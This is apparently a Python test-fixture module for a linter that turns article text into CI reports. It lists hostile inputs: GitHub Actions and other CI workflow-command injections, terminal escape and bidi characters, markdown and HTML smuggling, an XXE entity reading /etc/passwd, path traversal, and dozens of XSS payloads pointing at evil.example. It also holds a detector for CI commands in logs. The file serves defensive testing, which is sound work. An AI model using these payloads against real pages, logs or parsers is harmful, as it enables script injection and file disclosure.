"""Text that articles may hold to make a report or a page act, and how logs of CI services read a report."""

from __future__ import annotations

import re

PAYLOADS: dict[str, str] = {
    "workflow command": "::error file=a.md,line=1::owned",
    "workflow command after a line feed": "words\n::error::owned",
    "workflow command after a carriage return": "words\r::warning::owned",
    "workflow command after both": "words\r\n::notice::owned",
    "workflow command after a line separator": "words\u2028::error::owned",
    "workflow command after a next line": "words\x85::error::owned",
    "workflow command after a form feed": "words\x0c::error::owned",
    "workflow command after blanks": "  \t ::set-output name=a::b",
    "escaped line feed": "words%0A::error::owned",
    "escaped carriage return": "words%0D%0A::error::owned",
    "twice escaped": "words%250A::error::owned",
    "end of the properties": "a.md,line=9::owned",
    "property": "a,title=owned,line=7",
    "stop of commands": "::stop-commands::owned",
    "mask": "::add-mask::e",
    "older command": "words ##[error]owned",
    "older command that masks": "##[add-mask]e",
    "command of another service": "##vso[task.setvariable variable=a]b",
    "command of a third": "##teamcity[testFailed name='a']",
    "colours": "\x1b[31mred\x1b[0m",
    "window title": "\x1b]0;owned\x07",
    "terminal link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "eight-bit control": "\x9b31mred",
    "clear the screen": "\x1b[2J\x1b[H",
    "section of a log": "\x1b[0Ksection_start:0:a\r\x1b[0Kowned",
    "backspaces": "good\x08\x08\x08\x08evil",
    "zero byte": "a\x00b",
    "right to left": "a\u202egpj.exe",
    "isolate": "a\u2066b\u2069",
    "zero width": "a\u200bb\u200dc\ufeffd",
    "tags": "a\U000e0041\U000e0042",
    "half a character": "a\ud800b",
    "no character": "a\ufffeb\uffff",
    "link": "[click](https://evil.example)",
    "image": "![x](https://evil.example/x.png)",
    "link by reference": "[click][1] [1]: https://evil.example",
    "autolink": "<https://evil.example>",
    "bare address": "see https://evil.example/x and www.evil.example and mail me@evil.example",
    "HTML": '<img src=x onerror="alert(1)"><script>alert(1)</script>',
    "comment": "<!-- owned --> --> <details>",
    "mention": "thanks @octocat and @org/team",
    "issue": "fixes #1, closes GH-2 and org/repo#3",
    "cells": "a | b | c\n|---|---|\n| d | e |",
    "code": "`a` ``b`` ```c\n~~~\nowned",
    "emphasis": "**bold** _it_ ~~gone~~ \\*not\\*",
    "heading": "\n# Owned\n\n- [ ] task\n1. one\n> quote\n---",
    "mathematics": "$\\href{https://evil.example}{x}$ costs $5",
    "entities": "&lt;b&gt; &amp; &#60;i&#62; &owned; &#8238;",
    "XML": '"/><failure message="owned"/><x a="',
    "end of CDATA": "a]]><failure/>",
    "document type": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "JSON": '"},{"rule":"owned","a":"\\',
    "placeholder": "{0} and {1} and {{2}}",
    "link to a location": "[text](1) and [a\\](2)](3)",
    "formula": "=HYPERLINK(A1)",
    "upwards": "../../etc/passwd",
    "upwards, otherwise": "..\\..\\windows",
    "from the root": "/etc/passwd",
    "another scheme": "javascript:alert(1)",
    "another host": "//evil.example/a.md",
    "file with odd signs": "a b, c: d; e%20f?g#h.md",
    "command of a chat": "/close",
}
"""By what they try; each stands wherever text comes from outside (`tests.linted.hostile`)."""

FOR_BROWSERS: tuple[str, ...] = (
    "<script>hacked()</script>",
    "</script><script>hacked()</script>",
    "<ScRiPt>hacked()</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script/x>hacked()</script>",
    "<scr<script>ipt>hacked()</scr</script>ipt>",
    "<img src=x onerror=hacked()>",
    '<img src="x" onerror="hacked()">',
    "<img src=`x` onerror=hacked()>",
    '"><img src=x onerror=hacked()>',
    "'><img src=x onerror=hacked()>",
    '\\"><img src=x onerror=hacked()>',
    "--><img src=x onerror=hacked()>",
    "]]><img src=x onerror=hacked()>",
    "</textarea><img src=x onerror=hacked()>",
    "</title><img src=x onerror=hacked()>",
    "</style><img src=x onerror=hacked()>",
    "</template><img src=x onerror=hacked()>",
    "<img src=https://evil.example/x.png>",
    "<img srcset='https://evil.example/x.png 1x'>",
    "<svg onload=hacked()>",
    "<svg><script>hacked()</script></svg>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hacked()><text y=9>x</text></a></svg>",
    "<math><mtext><img src=x onerror=hacked()></mtext></math>",
    "<body onload=hacked()>",
    "<details open ontoggle=hacked()>x</details>",
    "<input autofocus onfocus=hacked()>",
    "<select autofocus onfocus=hacked()>",
    "<video><source onerror=hacked()></video>",
    "<audio src=x onerror=hacked()>",
    "<marquee onstart=hacked()>x</marquee>",
    "<div style=animation-name:x onanimationstart=hacked()>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe src=javascript:hacked()></iframe>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<form action=https://evil.example><button>x</button></form>",
    "<a href=javascript:hacked()>x</a>",
    "<a href=' javascript:hacked()'>x</a>",
    "<a href=https://evil.example ping=https://evil.example>x</a>",
    "<x onclick=hacked() tabindex=1>x</x>",
    "javascript:hacked()",
    "data:text/html,<script>hacked()</script>",
    "[x](javascript:hacked())",
    "![x](https://evil.example/x.png)",
    "[x]: https://evil.example 'x'",
    "<https://evil.example>",
    "**bold** _it_ `code` ~~gone~~",
    ":red[x] :material/home: :smile:",
    "$\\href{javascript:hacked()}{x}$",
    "# Heading",
    "{{constructor.constructor('hacked()')()}}",
    "${hacked()}",
    "&lt;img src=x onerror=hacked()&gt;",
    "&#60;script&#62;hacked()&#60;/script&#62;",
    "%3Cscript%3Ehacked()%3C/script%3E",
    "\\u003cscript\\u003ehacked()\\u003c/script\\u003e",
    "';hacked();//",
    "__proto__",
)
"""What would act in a page that takes text for more than text: each calls ``hacked`` or asks ``evil.example``."""

HIDDEN = (
    frozenset(map(chr, (*range(0x20), *range(0x7F, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A))))
    | frozenset("\u200b\u200d\u2028\u2029\ufeff\U000e0041\U000e0042\ud800\ufffe\uffff")
) - {"\n"}
"""Characters that steer a terminal, turn the direction of writing, or are not seen; none of them is in a report."""

_COMMANDS = (
    "add-mask add-matcher debug echo endgroup error group notice save-state set-env set-output stop-commands warning"
)
_NEWER = re.compile(r"\s*::(?P<name>[\w-]+)(?: [^:]*(?::[^:]+)*)?::")
_OLDER = re.compile(r"##\[(?P<name>[\w-]+)[^\]]*\]")
_ELSEWHERE = re.compile(r"##(?:vso|teamcity)\[")


def commands(out: str) -> list[str]:
    """The lines of a log that CI services obey: ``::name …::`` at their beginning, ``##[name]`` anywhere in them."""
    known = set(_COMMANDS.split())
    return [
        line
        for line in re.split(r"[\r\n\x0b\x0c\x85\u2028\u2029]", out)
        if _ELSEWHERE.search(line)
        or any(match["name"] in known for match in _OLDER.finditer(line))
        or ((match := _NEWER.match(line)) and match["name"] in known)
    ]
